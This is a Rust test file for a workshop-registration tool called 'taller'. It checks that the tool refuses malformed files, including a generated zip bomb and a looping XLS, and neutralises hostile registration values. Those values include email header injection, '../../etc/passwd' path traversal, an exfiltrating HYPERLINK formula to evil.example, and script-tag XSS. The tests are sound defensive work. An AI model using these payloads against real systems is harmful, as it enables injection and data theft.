//! Mistaken and hostile input, end to end: files a coordinator could send
//! by mistake (`tests/fixtures/bad/`, plus big ones made here) are refused
//! with one sentence naming the file, exit 2, no panic and nothing left
//! behind; and values typed into a registration sheet can never add an
//! email header or recipient, escape the output folder, run as a formula
//! or inject markup, all the way from `taller import` to `taller followup`.

use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};

use mail_parser::MessageParser;

use crate::common::{Output, fixture, taller, temp_dir};
use taller_model::Answer;
use taller_registration::synthetic::{Sheet, SheetFormat};

use crate::followup::{eml_files, followup, person, workshop_dir};

/// Every file and folder under `dir`, relative to it, sorted.
fn tree(dir: &Path) -> Vec<PathBuf> {
    fn walk(root: &Path, dir: &Path, out: &mut Vec<PathBuf>) {
        for entry in fs::read_dir(dir).expect("readable folder") {
            let path = entry.expect("entry").path();
            out.push(path.strip_prefix(root).expect("inside").to_path_buf());
            if path.is_dir() {
                walk(root, &path, out);
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

/// Asserts what a refused input shows: exit 2 and one line, `taller: `
/// then a sentence naming `file`, with no trace of a panic.
#[track_caller]
fn assert_refused(out: &Output, file: &str) {
    out.expect_code(2);
    let message = out.stderr.trim_end();
    assert!(
        message.starts_with("taller: ") && !message.contains('\n'),
        "not one line starting with `taller: `:\n{message}"
    );
    assert!(message.contains(file), "{file} is not named in: {message}");
    for trace in ["panicked", "RUST_BACKTRACE", "unwrap()", "src/"] {
        assert!(!message.contains(trace), "panic text in: {message}");
    }
    assert!(out.stdout.is_empty(), "stdout: {}", out.stdout);
}

/// Puts `inputs` (name, bytes) in a fresh folder, runs `taller ARGS` there,
/// and asserts the refusal naming `named` and that the folder is exactly
/// as it was: no output, no temporary file left behind.
#[track_caller]
fn refused(inputs: &[(&str, Vec<u8>)], args: &[&str], named: &str) {
    let dir = temp_dir();
    for (name, bytes) in inputs {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().expect("parent")).expect("folder");
        fs::write(path, bytes).expect("input");
    }
    let before = tree(dir.path());
    let out = taller(dir.path(), args);
    assert_refused(&out, named);
    assert_eq!(tree(dir.path()), before, "output left behind by {args:?}");
}

/// A committed bad file's bytes.
fn bad(name: &str) -> Vec<u8> {
    fs::read(fixture("bad").join(name)).expect("fixture")
}

/// `taller import FILE -o roster.csv` on these bytes is refused, naming FILE.
#[track_caller]
fn import_refused(name: &str, bytes: Vec<u8>) {
    refused(
        &[(name, bytes)],
        &["import", name, "-o", "roster.csv"],
        name,
    );
}

#[test]
fn unusable_registration_sheets_are_refused_naming_the_file() {
    for name in [
        "empty.csv",
        "not-a-spreadsheet.xlsx",
        "truncated.xlsx",
        "nul-bytes.csv",
        "invalid-utf8.csv",
        "duplicate-headers.csv",
    ] {
        import_refused(name, bad(name));
    }
}

#[test]
fn a_5_mb_cell_is_refused() {
    let mut csv = b"Nombre,Correo,Comentarios\r\nAna Ruiz,ana@ejemplo.org,".to_vec();
    csv.extend(std::iter::repeat_n(b'x', 5 << 20));
    csv.extend(b"\r\n");
    import_refused("comentarios.csv", csv);

    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (column, value) in ["Nombre", "Correo", "Comentarios"].into_iter().enumerate() {
        sheet.write_string(0, column as u16, value).expect("header");
    }
    sheet.write_string(1, 0, "Ana Ruiz").expect("name");
    sheet.write_string(1, 1, "ana@ejemplo.org").expect("email");
    sheet.write_string(1, 2, "PLACEHOLDER").expect("cell");
    // Excel caps a cell at 32,767 characters (so does rust_xlsxwriter); a
    // file from another program can hold more, so put it in by hand.
    let xlsx = replace_in_zip(
        &book.save_to_buffer().expect("xlsx"),
        "PLACEHOLDER",
        &"x".repeat(5 << 20),
    );
    import_refused("comentarios.xlsx", xlsx);
}

/// The zip archive `bytes` with `from` replaced by `to` in every part.
fn replace_in_zip(bytes: &[u8], from: &str, to: &str) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("zip");
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for index in 0..archive.len() {
        let mut part = archive.by_index(index).expect("part");
        let mut text = String::new();
        std::io::Read::read_to_string(&mut part, &mut text).expect("xml part");
        out.start_file(part.name().expect("part name").into_owned(), options)
            .expect("part");
        out.write_all(text.replace(from, to).as_bytes())
            .expect("write");
    }
    out.finish().expect("zip").into_inner()
}

#[test]
fn ten_thousand_columns_are_refused() {
    let header: Vec<String> = ["Nombre".to_owned(), "Correo".to_owned()]
        .into_iter()
        .chain((1..=10_000).map(|i| format!("Pregunta {i}")))
        .collect();
    let csv = format!(
        "{}\r\nAna Ruiz,ana@ejemplo.org{}\r\n",
        header.join(","),
        ",sí".repeat(10_000)
    );
    import_refused("encuesta.csv", csv.into_bytes());

    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (column, title) in header.iter().enumerate() {
        sheet.write_string(0, column as u16, title).expect("header");
    }
    import_refused("encuesta.xlsx", book.save_to_buffer().expect("xlsx"));
}

#[test]
fn a_zip_bomb_is_refused_before_it_is_inflated() {
    // 64 MB of one byte packs ~1000:1; real sheets pack 5–50:1.
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("xl/workbook.xml", options).expect("part");
    zip.write_all(b"<workbook/>").expect("write");
    zip.start_file("xl/worksheets/sheet1.xml", options)
        .expect("part");
    let chunk = vec![b' '; 1 << 20];
    for _ in 0..64 {
        zip.write_all(&chunk).expect("write");
    }
    let bytes = zip.finish().expect("zip").into_inner();
    assert!(bytes.len() < 1 << 20, "{} bytes", bytes.len());
    import_refused("inscripciones.xlsx", bytes);
}

#[test]
fn an_xls_whose_sectors_loop_is_refused_not_followed() {
    // One damaged FAT entry pointing the directory's sector at itself: the
    // spreadsheet reader alone would read it until memory ran out.
    let mut xls = fs::read(fixture("import/inscripciones.xls")).expect("fixture");
    let u32_at = |bytes: &[u8], at: usize| {
        u32::from_le_bytes(bytes[at..at + 4].try_into().expect("4 bytes"))
    };
    let dir_start = u32_at(&xls, 48);
    let entry = (u32_at(&xls, 76) as usize + 1) * 512 + 4 * dir_start as usize;
    xls[entry..entry + 4].copy_from_slice(&dir_start.to_le_bytes());
    import_refused("inscripciones.xls", xls);
}

#[test]
fn a_sheet_with_a_header_only_is_a_warning_and_strict_fails() {
    // A header without rows gives zero attendees and a warning, not an error;
    // --strict turns the warning into exit 1.
    let dir = temp_dir();
    fs::write(dir.path().join("vacia.csv"), bad("header-only.csv")).expect("input");
    let out = taller(
        dir.path(),
        &["import", "vacia.csv", "-o", "roster.csv", "--strict"],
    );
    out.expect_code(1);
    assert!(out.stderr.contains("vacia.csv"), "{}", out.stderr);
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
}

/// The certificates fixture's roster and workshop, with `workshop` replaced.
fn certificates_refused(inputs: &[(&str, Vec<u8>)], roster: &str, workshop: &str, named: &str) {
    refused(
        inputs,
        &[
            "certificates",
            "--roster",
            roster,
            "--workshop",
            workshop,
            "-o",
            "certificates",
            "--merged",
            "all.pdf",
        ],
        named,
    );
}

#[test]
fn broken_workshop_files_are_refused_naming_the_file() {
    let roster = fs::read(fixture("certificates/roster.csv")).expect("roster");
    for name in ["broken-workshop.toml", "workshop-missing-keys.toml"] {
        certificates_refused(
            &[("roster.csv", roster.clone()), (name, bad(name))],
            "roster.csv",
            name,
            name,
        );
    }
    let mut latin1 = fs::read(fixture("certificates/workshop.toml")).expect("workshop");
    latin1.extend(b"# Campa\xf1a\n");
    certificates_refused(
        &[("roster.csv", roster), ("taller.toml", latin1)],
        "roster.csv",
        "taller.toml",
        "taller.toml",
    );
}

#[test]
fn a_roster_missing_a_column_is_refused_naming_it() {
    let workshop = fs::read(fixture("certificates/workshop.toml")).expect("workshop");
    certificates_refused(
        &[
            ("lista.csv", bad("roster-missing-column.csv")),
            ("workshop.toml", workshop),
        ],
        "lista.csv",
        "workshop.toml",
        "lista.csv",
    );
}

#[test]
fn an_unbalanced_template_is_refused_naming_it() {
    let roster = fs::read(fixture("certificates/roster.csv")).expect("roster");
    let folder = fixture("bad/unbalanced-template");
    refused(
        &[
            ("roster.csv", roster),
            (
                "workshop.toml",
                fs::read(folder.join("workshop.toml")).expect("workshop"),
            ),
            (
                "followup.es.hbs",
                fs::read(folder.join("followup.es.hbs")).expect("template"),
            ),
        ],
        &[
            "followup",
            "--roster",
            "roster.csv",
            "--workshop",
            "workshop.toml",
            "-o",
            "outbox",
        ],
        "followup.es.hbs line 5: the template is not valid Handlebars: `{{#if …}}` is never closed",
    );
}

/// A registration sheet of people whose answers are attacks, imported,
/// certified and written as emails, as a coordinator would.
fn hostile_workshop() -> tempfile::TempDir {
    let dir = temp_dir();
    let source = fixture("followup");
    for file in ["workshop.toml", "handbook.pdf"] {
        fs::copy(source.join(file), dir.path().join(file)).expect("copy");
    }
    fs::create_dir_all(dir.path().join("templates")).expect("templates");
    for entry in fs::read_dir(source.join("templates")).expect("templates") {
        let entry = entry.expect("entry");
        fs::copy(
            entry.path(),
            dir.path().join("templates").join(entry.file_name()),
        )
        .expect("copy");
    }
    let mut sheet = csv::Writer::from_writer(Vec::new());
    for row in [
        ["Nombre", "Apellidos", "Correo electrónico", "Organización"],
        [
            "Eve\r\nBcc: victim@evil.example",
            "Hacker\nTo: other@evil.example",
            "eve@evil.example",
            "ONG\r\nCc: cc@evil.example",
        ],
        [
            "Mallory",
            "Header",
            "mallory@evil.example\r\nBcc: victim2@evil.example",
            "CEAR",
        ],
        [
            "../../etc/passwd",
            "..\\..\\boot",
            "path@evil.example",
            "Red",
        ],
        [
            "Ana",
            "Ruiz",
            "ana@ejemplo.org",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Haz clic\")",
        ],
        [
            "<script>alert(1)</script>",
            "<b>Bold</b> & \"Co\"",
            "xss@evil.example",
            "<img src=x onerror=alert(2)>",
        ],
    ] {
        sheet.write_record(row).expect("row");
    }
    fs::write(
        dir.path().join("inscripciones.csv"),
        sheet.into_inner().expect("csv"),
    )
    .expect("sheet");
    let run = |args: &[&str]| {
        let out = taller(dir.path(), args);
        assert!(
            out.code == Some(0) || out.code == Some(1),
            "{args:?}: {out:?}"
        );
        assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    };
    run(&[
        "import",
        "inscripciones.csv",
        "--workshop",
        "workshop.toml",
        "-o",
        "roster.csv",
    ]);
    run(&[
        "certificates",
        "--roster",
        "roster.csv",
        "--workshop",
        "workshop.toml",
        "-o",
        "certificates",
    ]);
    let out = followup(dir.path(), &["-o", "outbox"]);
    assert!(out.code == Some(0) || out.code == Some(1), "{out:?}");
    dir
}

/// The header block of a raw message, unfolded: one entry per header.
fn header_names(raw: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(raw);
    let head = text.split("\r\n\r\n").next().unwrap_or_default();
    head.split("\r\n")
        .filter(|line| !line.starts_with([' ', '\t']))
        .filter_map(|line| {
            line.split_once(':')
                .map(|(name, _)| name.to_ascii_lowercase())
        })
        .collect()
}

#[test]
fn sheet_values_never_add_headers_or_recipients() {
    let dir = hostile_workshop();
    let messages = eml_files(&dir.path().join("outbox"));
    let mut recipients = Vec::new();
    for path in &messages {
        let raw = fs::read(path).expect("eml");
        let names = header_names(&raw);
        for injected in ["bcc", "cc"] {
            assert!(
                !names.iter().any(|n| n == injected),
                "{}: {injected} header injected",
                path.display()
            );
        }
        let message = MessageParser::default()
            .parse(raw.as_slice())
            .expect("a MIME message");
        let to: Vec<String> = message
            .to()
            .expect("a To header")
            .iter()
            .filter_map(|a| a.address().map(str::to_owned))
            .collect();
        assert_eq!(to.len(), 1, "{}: recipients {to:?}", path.display());
        recipients.extend(to);
        assert!(message.bcc().is_none() && message.cc().is_none());
        let subject = message.subject().unwrap_or_default();
        assert!(!subject.contains(['\r', '\n']), "{subject:?}");
    }
    // Everyone got their message, at their own address only.
    recipients.sort();
    assert_eq!(
        recipients,
        [
            "ana@ejemplo.org",
            "eve@evil.example",
            "mallory@evil.example",
            "path@evil.example",
            "xss@evil.example"
        ]
    );
}

#[test]
fn a_name_never_makes_a_file_outside_the_output_folders() {
    let dir = hostile_workshop();
    let allowed = [
        "workshop.toml",
        "handbook.pdf",
        "templates",
        "inscripciones.csv",
        "roster.csv",
        "certificates",
        "outbox",
        // The organiser's signing key, made beside the workshop file.
        ".taller-signing-key",
    ];
    for path in tree(dir.path()) {
        let first = path.components().next().expect("component");
        assert!(
            allowed.iter().any(|a| first.as_os_str() == *a),
            "{} was written outside the output folders",
            path.display()
        );
        assert!(
            !path.to_string_lossy().contains(".."),
            "{} climbs out",
            path.display()
        );
    }
    let parent = dir.path().parent().expect("parent");
    assert!(!parent.join("etc/passwd").exists() && !parent.join("boot").exists());
    // The person still got a certificate and an email, under a safe name.
    let certificates = tree(&dir.path().join("certificates"));
    assert!(
        certificates
            .iter()
            .any(|p| p.to_string_lossy().to_lowercase().contains("passwd")),
        "{certificates:?}"
    );
}

#[test]
fn a_formula_in_a_sheet_is_written_as_text_in_the_roster() {
    let dir = hostile_workshop();
    let mut roster = csv::Reader::from_path(dir.path().join("roster.csv")).expect("roster");
    let headers = roster.headers().expect("header").clone();
    let organisation = headers
        .iter()
        .position(|h| h == "organisation")
        .expect("organisation column");
    let values: Vec<String> = roster
        .records()
        .map(|r| r.expect("record")[organisation].to_owned())
        .collect();
    assert!(
        values.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Haz clic\")".to_owned()),
        "{values:?}"
    );
    assert!(!values.iter().any(|v| v.starts_with('=')), "{values:?}");
}

#[test]
fn markup_in_a_name_is_escaped_in_the_html_part() {
    let dir = hostile_workshop();
    let raw = eml_files(&dir.path().join("outbox"))
        .into_iter()
        .map(|path| fs::read(path).expect("eml"))
        .find(|raw| String::from_utf8_lossy(raw).contains("xss@evil.example"))
        .expect("the message to xss@evil.example");
    let message = MessageParser::default()
        .parse(raw.as_slice())
        .expect("a MIME message");
    // Names are re-cased on import (`<Script>`): compare in lower case.
    let html = message.body_html(0).expect("an HTML part").to_lowercase();
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html}"
    );
    for markup in ["<script", "<b>bold", "<img"] {
        assert!(!html.contains(markup), "{markup} unescaped in:\n{html}");
    }
    // The plain-text part shows the name as typed, not as entities.
    let text = message.body_text(0).expect("a text part").to_lowercase();
    assert!(text.contains("<script>alert(1)</script>"), "{text}");
}

#[test]
fn a_hand_edited_roster_never_adds_headers_or_recipients() {
    // The roster is a CSV anyone can edit: a quoted field can hold CR/LF.
    let mut eve = person("Eve", "Hacker", "eve@evil.example", "es", Answer::Yes);
    eve.email = "eve@evil.example\r\nBcc: victim@evil.example".to_owned();
    let mut trudy = person(
        "Trudy\r\nTo: victim2@evil.example",
        "Hacker",
        "trudy@evil.example",
        "es",
        Answer::Yes,
    );
    trudy.organisation = "Org\r\n\r\n<html>injected body".to_owned();
    let ana = person("Ana", "Ruiz", "ana@ejemplo.org", "es", Answer::Yes);
    let dir = workshop_dir(vec![eve, trudy, ana]);
    let out = followup(dir.path(), &["-o", "outbox"]);
    assert!(out.code == Some(0) || out.code == Some(1), "{out:?}");
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    // CR/LF in a name or email is rejected, naming the roster row.
    for row in ["roster.csv, row 2:", "roster.csv, row 3:"] {
        assert!(
            out.stderr.contains(row) && out.stderr.contains("line break"),
            "{row} not reported:\n{}",
            out.stderr
        );
    }
    let mut recipients = Vec::new();
    for path in eml_files(&dir.path().join("outbox")) {
        let raw = fs::read(&path).expect("eml");
        let names = header_names(&raw);
        assert!(!names.iter().any(|n| n == "bcc" || n == "cc"), "{names:?}");
        assert_eq!(
            names.iter().filter(|n| *n == "to").count(),
            1,
            "{}",
            path.display()
        );
        let message = MessageParser::default()
            .parse(raw.as_slice())
            .expect("a MIME message");
        recipients.extend(
            message
                .to()
                .expect("a To header")
                .iter()
                .filter_map(|a| a.address().map(str::to_owned)),
        );
    }
    assert_eq!(recipients, ["ana@ejemplo.org"]);
}

#[test]
fn an_interrupted_run_leaves_no_half_file() {
    let dir = temp_dir();
    fs::copy(
        fixture("certificates/workshop.toml"),
        dir.path().join("workshop.toml"),
    )
    .expect("workshop");
    let ready = |args: &[&str]| taller(dir.path(), args).expect_code(0).code;
    let sheet = Sheet::generate(400, 7)
        .to_bytes(SheetFormat::CsvUtf8)
        .expect("a sheet");
    fs::write(dir.path().join("sheet.csv"), sheet).expect("sheet written");
    ready(&[
        "import",
        "sheet.csv",
        "--workshop",
        "workshop.toml",
        "-o",
        "roster.csv",
        "-q",
    ]);
    // Killed without warning (as by a closed laptop or `kill -9`): whenever
    // the kill lands, every file that shows must be whole.
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_taller"))
        .args([
            "certificates",
            "--roster",
            "roster.csv",
            "--workshop",
            "workshop.toml",
            "-o",
            "certificates",
            "--merged",
            "all.pdf",
            "-q",
        ])
        .current_dir(dir.path())
        .spawn()
        .expect("taller runs");
    std::thread::sleep(std::time::Duration::from_millis(400));
    child.kill().ok();
    child.wait().expect("stopped");
    let visible: Vec<PathBuf> = tree(dir.path())
        .into_iter()
        .filter(|p| {
            !p.components()
                .any(|c| c.as_os_str().to_string_lossy().starts_with('.'))
        })
        .filter(|p| p.extension().is_some_and(|e| e == "pdf" || e == "json"))
        .collect();
    for path in &visible {
        let bytes = fs::read(dir.path().join(path)).expect("output");
        let whole = if path.extension().is_some_and(|e| e == "pdf") {
            bytes.starts_with(b"%PDF-") && bytes.trim_ascii_end().ends_with(b"%%EOF")
        } else {
            serde_json::from_slice::<serde_json::Value>(&bytes).is_ok()
        };
        assert!(whole, "{} is a half-written file", path.display());
    }
}
